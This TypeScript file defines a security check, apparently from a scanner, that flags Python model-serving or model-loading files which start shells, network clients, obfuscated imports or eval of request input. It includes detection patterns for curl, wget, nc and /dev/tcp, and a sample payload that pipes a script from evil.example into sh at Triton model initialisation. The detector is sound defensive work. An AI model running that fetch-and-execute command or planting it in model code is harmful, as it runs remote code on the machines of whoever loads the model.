import { basename } from "node:path/posix";
import type { Expression } from "../../formats/python/nodes.ts";
import type { PythonView } from "../../formats/python/view.ts";
import type { PythonCall } from "../../formats/python/values.ts";
import { shellCalls, subprocessCalls } from "../code/processes.ts";
import { isFormatted } from "../code/support.ts";
import { defineCheck } from "../define.ts";

/** A kind of file that a server or a loader of models imports. */
interface Role {
  readonly path?: RegExp;
  readonly text?: RegExp;
  /** Who runs it, as a sentence begins. */
  readonly means: string;
  /** True where what it is given comes from whoever asks the server. */
  readonly isServing?: boolean;
}

const roles: readonly Role[] = [
  {
    path: /(?:^|\/)handler\.py$/,
    text: /^class EndpointHandler\b/m,
    means: "An inference endpoint imports this file",
    isServing: true,
  },
  {
    text: /^class TritonPythonModel\b/m,
    means: "Triton imports this file",
    isServing: true,
  },
  {
    path: /(?:^|\/)(?:inference|code\/[\w-]+)\.py$/,
    text: /^(?:async )?def (?:model|predict|input|output|transform)_fn\(/m,
    means: "SageMaker imports this file",
    isServing: true,
  },
  {
    text: /^(?:from|import) ts\.torch_handler\b/m,
    means: "TorchServe imports this file",
    isServing: true,
  },
  {
    path: /(?:^|\/)custom_generate\/generate\.py$/,
    means: "`generate` of Transformers imports this file",
    isServing: true,
  },
  {
    text: /\bload_model_from_init_py\b|^@(?:spacy\.)?registry\.callbacks\(/m,
    means: "spaCy imports this file with the model",
  },
  { text: /^NODE_CLASS_MAPPINGS\b/m, means: "ComfyUI imports this file when it starts" },
  {
    path: /(?:^|\/)(?:site|user)customize\.py$/,
    means: "Python imports this file whenever it starts",
  },
  {
    text: /^from (?:pickle|dill|cloudpickle) import \*/m,
    means: "A loader that takes this file for pickle imports it",
  },
  {
    text: /^class \w+\([^()\n]{0,200}\b(?:Pre[tT]rained(?:Model|Config|TokenizerFast|Tokenizer)|Pipeline|DiffusionPipeline)\b/m,
    means: "Loading the model with `trust_remote_code=True` imports this file",
  },
  {
    text: /^_base_\s*=\s*["'[(]/m,
    means: "MMEngine runs this configuration to read it",
  },
];

function roleOf({ path, text }: Pick<PythonView, "path" | "text">): Role | undefined {
  return roles.find((role) => (role.path?.test(path) ?? true) && (role.text?.test(text) ?? true));
}

/** What installs, builds, asks for the machine, or works on media: not why one would be warned. */
const usual = new Set(
  "pip pip3 python python3 conda mamba uv poetry npm git apt apt-get brew nvidia-smi nvcc rocm-smi ffmpeg ffprobe sox convert espeak lscpu nproc free uname which where whoami hostname ls dir pwd cd clear cls echo cat mkdir make cmake ninja gcc g++ unzip tar gunzip cp df du ps ldconfig sudo explorer open xdg-open exit set export sleep".split(
    " ",
  ),
);
const fetchedShell =
  /\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\/dev\/tcp\/|\bbase64\s+(?:-d|--decode)\b/;

/** True where each command of a line is one that is usual. */
function isUsual(line: string): boolean {
  if (fetchedShell.test(line)) return false;
  return line.split(/&&|\|\||[;|\n&]/).every((command) => {
    const words = command.trim().split(/\s+/);
    const first = words.find((word) => word !== "sudo" && !/^\w+=/.test(word)) ?? "";
    return first === "" || usual.has(basename(first.replace(/["']/g, "")));
  });
}

const shells = /^(?:sh|bash|zsh|dash|ksh|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/i;
const clients = /^(?:curl|wget|nc|ncat|socat|telnet)$/;

/** True for a list of words that starts a shell with a line of its own, or a client of the network. */
function startsShell(call: PythonCall): boolean {
  const words = call
    .argument(0, "args")
    ?.elements()
    ?.map((word) => word.string());
  if (words === undefined) return false;
  const [first = "", second = ""] = words;
  const program = basename(first);
  if (clients.test(program)) return true;
  if (!shells.test(program) || !/^[-/]/.test(second)) return false;
  const line = words[2];
  return line !== undefined && !isUsual(line);
}

/** True where a line is given to a shell that is not usual; of lines that are put together another check speaks. */
function isOdd(call: PythonCall, isServing: boolean): boolean {
  const command = call.argument(0, "args");
  if (command === undefined) return false;
  const line = command.string();
  if (line !== undefined) return !isUsual(line);
  return isServing && command.elements() === undefined && !isFormatted(command.origin());
}

/** A name that is put together of numbers, turned around or unpacked, as no honest import is. */
function isHidden({ kind, start, end }: Expression, text: string): boolean {
  if (kind === "Name" || kind === "Constant") return false;
  return /\bchr\b|b64decode|fromhex|unhexlify|\[::-1\]|rot_?13/.test(
    text.slice(start, Math.min(end, start + 500)),
  );
}

export const modelCodeStartsPrograms = defineCheck({
  meta: {
    id: "model-code-starts-programs",
    code: "PV-MODEL-044",
    title: "Code that runs when a model is loaded or served starts a shell",
    asset: "python",
    severity: "high",
    confidence: "medium",
    audience: "default",
    aliases: [],
    controls: ["CWE-78", "CWE-506", "CWE-829", "OWASP-LLM03:2025", "ATLAS:AML.T0010.003"],
    why: "Who loads or serves the model never sees this file: the server imports it, and the command runs with its rights. Answering a request needs no shell.",
    mend: "Read what it starts. Take the model from somebody else, or delete the call.",
    blind:
      "Programs that are started from other files that this one imports, and by libraries with functions of their own.",
    since: "0.1.0",
    references: ["https://huggingface.co/docs/inference-endpoints/guides/custom_handler"],
    examples: {
      found: [
        {
          code: "import os\n\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('curl https://evil.example/s | sh')\n",
        },
      ],
      clean: [
        {
          code: "import os\n\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('nvidia-smi')\n",
        },
      ],
    },
  },
  wants: (file) =>
    [
      "subprocess",
      "system",
      "popen",
      "eval",
      "exec",
      "commands",
      "__import__",
      "import_module",
    ].some((word) => file.mentions(word)),
  run: (view, report) => {
    const role = roleOf(view);
    if (role === undefined) return;
    const isServing = role.isServing === true;
    for (const call of view.calls(...shellCalls))
      if (isOdd(call, isServing))
        report(call, { message: `${role.means}, and it gives a command to a shell` });
    for (const call of view.calls(...subprocessCalls)) {
      const isShell = call.keyword("shell")?.truth() === true && isOdd(call, isServing);
      if (isShell || startsShell(call))
        report(call, {
          message: `${role.means}, and it starts a shell or a client of the network`,
        });
    }
    for (const call of view.calls("__import__", "importlib.import_module")) {
      const name = call.positional(0);
      if (name === undefined || !isHidden(name.node, view.text)) continue;
      report(call, { message: `${role.means}, and it hides the name of a module that it imports` });
    }
    if (!isServing) return;
    for (const call of view.calls("eval", "exec")) {
      const first = call.positional(0);
      const { node } = first ?? {};
      if (node?.kind !== "Name" || first?.string() !== undefined) continue;
      const isGiven = call.scope.bindings.get(node.id)?.isOpaque === true;
      if (isGiven) report(call, { message: `${role.means}, and it runs what it is given as code` });
    }
  },
});
